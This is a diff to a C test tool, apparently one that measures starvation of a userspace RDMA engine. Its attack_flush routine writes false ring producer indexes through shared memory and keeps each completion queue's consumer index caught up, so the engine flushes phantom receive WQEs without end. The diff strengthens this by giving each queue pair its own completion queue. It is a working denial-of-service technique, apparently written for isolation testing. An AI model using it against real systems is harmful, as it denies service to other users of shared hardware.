@@ -9,10 +9,10 @@
  *       SECONDS.  Prints "ready" once the first WRITEs are posted.
  *   starve flush [-q QPS] [-t SECONDS]
  *       QPS RC QPs with 16384-entry receive queues, moved to the error
- *       state, all on one CQ of 65536.  Through its region it then keeps
+ *       state, each on a CQ of its own of 65536.  Through its region it then keeps
  *       every RQ's prod a whole ring ahead of cons and every SQ's prod a
- *       ring ahead (a lie: nothing is posted), the CQ's cons at its prod (so
- *       the CQ never overflows), and rings the doorbells: the engine flushes
+ *       ring ahead (a lie: nothing is posted), each CQ's cons at its prod (so
+ *       the CQs do not overflow), and rings the doorbells: the engine flushes
  *       "receive WQEs" with no memory behind them, forever.  Prints "ready".
  *   starve victim [-t SECONDS] [--gap-ms MS] [-n COUNT]
  *       Two loopback RC QPs: 64-byte RDMA WRITEs, one at a time, each
@@ -288,7 +288,7 @@ static bool snoop_end(uint8_t *region, const uint32_t *seq, uint16_t op, void *o
 }
 
 struct lying_qp {
-	struct urd_ring_hdr *sq, *rq;
+	struct urd_ring_hdr *sq, *rq, *cq;
 	uint32_t sq_n, rq_n, db;
 };
 
@@ -297,15 +297,12 @@ static int attack_flush(void)
 	struct ibv_context *ctx = open_dev();
 	struct ibv_pd *pd = ibv_alloc_pd(ctx);
 	struct ibv_qp_attr err = { .qp_state = IBV_QPS_ERR };
-	struct urd_create_cq_resp cr;
 	struct lying_qp *q;
-	struct urd_ring_hdr *cqh;
 	struct urd_region_hdr *hdr;
 	struct urd_doorbells *db;
 	uint32_t seq[URD_MAX_CTX];
 	uint64_t size, end, rounds = 0;
 	uint8_t *region;
-	struct ibv_cq *cq;
 
 	if (!pd)
 		die("ibv_alloc_pd");
@@ -313,15 +310,19 @@ static int attack_flush(void)
 	hdr = (struct urd_region_hdr *)region;
 	db = (struct urd_doorbells *)(region + hdr->db_off);
 	q = calloc((size_t)opt.qps, sizeof(*q));
-	snoop_begin(region, seq);
-	cq = ibv_create_cq(ctx, (int)URD_MAX_CQE, NULL, NULL, 0);
-	if (!cq || !snoop_end(region, seq, URD_OP_CREATE_CQ, &cr, sizeof(cr)))
-		die("create CQ");
-	cqh = (struct urd_ring_hdr *)(region + cr.ring_off);
 	for (int i = 0; i < opt.qps; i++) {
 		struct urd_create_qp_resp r;
+		struct urd_create_cq_resp cr;
 		struct ibv_qp *qp;
+		struct ibv_cq *cq;
 
+		/* a CQ per QP, as big as allowed: while we are descheduled the
+		 * engine must not overrun it (an overrun CQ ends the flushing) */
+		snoop_begin(region, seq);
+		cq = ibv_create_cq(ctx, (int)URD_MAX_CQE, NULL, NULL, 0);
+		if (!cq || !snoop_end(region, seq, URD_OP_CREATE_CQ, &cr, sizeof(cr)))
+			die("create CQ");
+		q[i].cq = (struct urd_ring_hdr *)(region + cr.ring_off);
 		snoop_begin(region, seq);
 		qp = make_qp(pd, cq, 1024, URD_MAX_WR);
 		if (!snoop_end(region, seq, URD_OP_CREATE_QP, &r, sizeof(r)) || !r.rq_off)
@@ -346,7 +347,8 @@ static int attack_flush(void)
 					 __ATOMIC_RELEASE);
 			__atomic_store_n(&l->sq->prod, __atomic_load_n(&l->sq->cons, __ATOMIC_RELAXED) + l->sq_n,
 					 __ATOMIC_RELEASE);
-			__atomic_store_n(&cqh->cons, __atomic_load_n(&cqh->prod, __ATOMIC_RELAXED), __ATOMIC_RELEASE);
+			__atomic_store_n(&l->cq->cons, __atomic_load_n(&l->cq->prod, __ATOMIC_RELAXED),
+					 __ATOMIC_RELEASE);
 			__atomic_fetch_or(&db->bits[l->db / 64], 1ull << (l->db % 64), __ATOMIC_SEQ_CST);
 			__atomic_fetch_or(&db->summary, 1ull << (l->db / 64), __ATOMIC_SEQ_CST);
 		}
@@ -354,8 +356,8 @@ static int attack_flush(void)
 			__atomic_fetch_add(&hdr->engine_wake, 1, __ATOMIC_SEQ_CST);
 			syscall(SYS_futex, &hdr->engine_wake, FUTEX_WAKE, 1 << 30, NULL, NULL, 0);
 		}
-		rounds++;
-		usleep(500);    /* the engine's work is what is measured, not ours */
+		if (++rounds % 16 == 0)
+			usleep(200);    /* the engine's work is what is measured, not ours */
 	}
 	printf("attack done\n");
 	fflush(stdout);
